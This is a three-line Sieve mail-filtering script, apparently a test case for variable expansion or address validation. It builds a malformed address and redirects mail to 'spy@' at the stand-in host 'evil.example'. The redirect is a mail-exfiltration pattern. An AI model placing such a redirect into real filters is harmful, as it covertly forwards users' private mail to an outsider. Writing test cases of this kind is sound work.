require "variables";
set "d" "evil.example (x)";
redirect "spy@ ${d}";
